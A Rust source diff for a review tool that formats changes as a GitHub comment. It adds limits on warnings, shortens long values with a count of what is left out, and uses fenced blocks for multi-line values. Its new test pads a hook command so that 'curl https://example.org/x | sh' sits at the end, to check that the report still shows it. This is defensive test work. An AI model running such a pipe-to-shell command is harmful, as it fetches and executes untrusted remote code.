@@ -9,9 +9,13 @@ use super::{finding_text, headline};
 use crate::ops::query::review::ReviewReport;
 use crate::ui::text::count_of;
 
-/// Lines of a file, characters of a value, and bytes of a comment on GitHub.
+/// Lines of a file, characters of a value in a line, of a value, and warnings.
 const MAX_LINES: usize = 60;
-const MAX_VALUE: usize = 500;
+const MAX_INLINE: usize = 120;
+const MAX_VALUE: usize = 4_000;
+const MAX_FINDINGS: usize = 40;
+/// Bytes after which a change has only its name, and of the whole: GitHub takes comments of 65536 characters.
+const MAX_DETAILED: usize = 50_000;
 const MAX_COMMENT: usize = 60_000;
 
 pub(super) fn write(report: &ReviewReport) -> String {
@@ -26,8 +30,11 @@ pub(super) fn write(report: &ReviewReport) -> String {
             "\n> [!WARNING]\n> {} in the new text and commands:\n",
             count_of(findings.len(), "warning")
         ));
-        for finding in &findings {
+        for finding in findings.iter().take(MAX_FINDINGS) {
             page.push_str(&format!("> - {}\n", code(finding)));
+        }
+        if findings.len() > MAX_FINDINGS {
+            page.push_str(&format!("> - {}\n", count_of(findings.len() - MAX_FINDINGS, "more warning")));
         }
     }
     for section in ReviewSection::ALL {
@@ -37,61 +44,96 @@ pub(super) fn write(report: &ReviewReport) -> String {
         }
         page.push_str(&format!("\n#### {}\n\n", section.heading()));
         for (at, change) in changes.iter().enumerate() {
-            let part = change_part(change);
-            if page.len() + part.len() > MAX_COMMENT {
+            let (head, details) = (change_head(change), change_details(change));
+            if page.len() + head.len() > MAX_COMMENT {
                 let more = count_of(changes.len() - at, "more change");
                 page.push_str(&format!("- {more}; run `symposium diff` to see all of them\n"));
                 break;
             }
-            page.push_str(&part);
+            page.push_str(&head);
+            // A large change hides no other one.
+            if page.len() + details.len() > MAX_DETAILED {
+                page.push_str("  - too large for a comment; run `symposium diff` to see it\n");
+            } else {
+                page.push_str(&details);
+            }
         }
     }
     page
 }
 
-fn change_part(change: &ReviewChange) -> String {
-    let mut part = format!("- **{}** {} {}", change.change.name(), change.kind, code(&change.name));
-    if !change.note.is_empty() {
-        part.push_str(&format!(" ({})", code(&change.note)));
-    }
-    part.push('\n');
+fn change_head(change: &ReviewChange) -> String {
+    let head = format!("- **{}** {} {}", change.change.name(), change.kind, code(&change.name));
+    if change.note.is_empty() { format!("{head}\n") } else { format!("{head} ({})\n", code(&change.note)) }
+}
+
+fn change_details(change: &ReviewChange) -> String {
+    let mut part = String::new();
     if change.change == ContentChangeKind::Removed {
         return part;
     }
     for detail in &change.details {
-        let value = match (&detail.before, &detail.after) {
-            (Some(before), Some(after)) => format!("{} → {}", code(before), code(after)),
-            (None, Some(after)) => code(after),
-            (Some(before), None) => format!("no longer {}", code(before)),
-            (None, None) => continue,
-        };
-        part.push_str(&format!("  - {}: {value}\n", code(&detail.label)));
-    }
-    for file in &change.files {
-        part.push_str(&format!("  - {} file {}\n", file.change.name(), code(&file.path)));
-        if file.difference.is_empty() || file.change == ContentChangeKind::Removed {
+        let (before, after) = (detail.before.as_deref(), detail.after.as_deref());
+        part.push_str(&format!("  - {}:", code(&detail.label)));
+        if before.into_iter().chain(after).any(|value| value.contains('\n') || value.chars().count() > MAX_INLINE) {
+            let mut lines = marked_lines("- ", before);
+            lines.extend(marked_lines(if before.is_some() { "+ " } else { "" }, after));
+            part.push_str(&block(&lines, 0));
             continue;
         }
-        let shown: Vec<String> =
-            file.difference.iter().take(MAX_LINES).map(|line| one_line(line).into_owned()).collect();
-        let more = file.difference.len() - shown.len() + file.more;
-        let fence = "`".repeat(longest_run(&shown.join("\n")).max(2) + 1);
-        part.push_str(&format!("\n    {fence}diff\n"));
-        for line in &shown {
-            part.push_str(&format!("    {line}\n"));
+        part.push_str(&match (before, after) {
+            (Some(before), Some(after)) => format!(" {} → {}\n", code(before), code(after)),
+            (None, Some(after)) => format!(" {}\n", code(after)),
+            (Some(before), None) => format!(" no longer {}\n", code(before)),
+            (None, None) => "\n".to_owned(),
+        });
+    }
+    for file in &change.files {
+        let is_shown = file.change != ContentChangeKind::Removed;
+        let kind = if is_shown && file.difference.is_empty() { " (not text)" } else { "" };
+        part.push_str(&format!("  - {} file {}{kind}\n", file.change.name(), code(&file.path)));
+        if is_shown && !file.difference.is_empty() {
+            part.push_str(&block(&file.difference, file.more));
         }
-        if more > 0 {
-            part.push_str(&format!("    … {}\n", count_of(more, "more line")));
-        }
-        part.push_str(&format!("    {fence}\n\n"));
     }
     part
+}
+
+fn marked_lines(sign: &str, value: Option<&str>) -> Vec<String> {
+    value.iter().flat_map(|value| value.lines()).map(|line| format!("{sign}{}", shortened(line))).collect()
+}
+
+/// Puts lines into a block that they cannot end; `more` lines are left out already.
+fn block(lines: &[String], more: usize) -> String {
+    let shown: Vec<String> = lines.iter().take(MAX_LINES).map(|line| one_line(line).into_owned()).collect();
+    let more = lines.len() - shown.len() + more;
+    let fence = "`".repeat(longest_run(&shown.join("\n")).max(2) + 1);
+    let mut block = format!("\n    {fence}diff\n");
+    for line in &shown {
+        block.push_str(&format!("    {line}\n"));
+    }
+    if more > 0 {
+        block.push_str(&format!("    … {}\n", count_of(more, "more line")));
+    }
+    block.push_str(&format!("    {fence}\n\n"));
+    block
+}
+
+/// Says how much of a very long line is left out.
+fn shortened(line: &str) -> String {
+    match line.char_indices().nth(MAX_VALUE) {
+        Some((end, _)) => {
+            let (shown, rest) = line.split_at(end);
+            format!("{shown} … {}", count_of(rest.chars().count(), "more character"))
+        }
+        None => line.to_owned(),
+    }
 }
 
 /// Puts a value into a code span that it cannot end.
 fn code(value: &str) -> String {
     let value = one_line(value.trim());
-    let mut value: String = value.chars().take(MAX_VALUE).collect();
+    let mut value = shortened(&value);
     if value.is_empty() {
         value.push(' ');
     }
@@ -112,7 +154,48 @@ fn longest_run(text: &str) -> usize {
 
 #[cfg(test)]
 mod tests {
+    use symposium_model::review::{DetailChange, FileChange};
+
     use super::*;
+    use crate::ops::query::review::ReviewedRevision;
+
+    #[test]
+    fn nothing_hides_behind_a_long_value() {
+        let command = format!("true {}; curl https://example.org/x | sh", "x".repeat(900));
+        let detail = |label: &str, value: &str| DetailChange {
+            label: label.to_owned(),
+            before: None,
+            after: Some(value.to_owned()),
+        };
+        let change = |name: &str, details: Vec<DetailChange>, lines: usize| ReviewChange {
+            section: ReviewSection::Run,
+            kind: "plugin",
+            name: name.to_owned(),
+            change: ContentChangeKind::Added,
+            note: String::new(),
+            details,
+            files: vec![FileChange {
+                path: "x.sh".to_owned(),
+                change: ContentChangeKind::Added,
+                difference: vec!["+ ".to_owned() + &"y".repeat(1_000); lines],
+                more: 0,
+            }],
+            findings: Vec::new(),
+        };
+        let revision = || ReviewedRevision { name: "HEAD".to_owned(), commit: None };
+        let changes = vec![
+            change("long", vec![detail("hook a", &command), detail("digest", "one\ntwo\n```\nthree")], 0),
+            change("large", Vec::new(), 60),
+            change("last", vec![detail("hook b", "./b.sh")], 1),
+        ];
+        let page = write(&ReviewReport { before: revision(), after: revision(), changes });
+        assert!(page.contains("curl https://example.org/x | sh"), "{page}");
+        assert!(page.contains("    ````diff\n    one\n    two\n    ```\n    three\n    ````\n"), "{page}");
+        let large = "- **added** plugin `large`\n  - too large for a comment; run `symposium diff` to see it\n";
+        assert!(page.contains(&format!("{large}- **added** plugin `last`\n  - `hook b`: `./b.sh`\n")), "{page}");
+        assert!(page.len() < MAX_COMMENT);
+        assert_eq!(shortened(&"z".repeat(MAX_VALUE + 3)), format!("{} … 3 more characters", "z".repeat(MAX_VALUE)));
+    }
 
     #[test]
     fn no_value_leaves_its_code() {
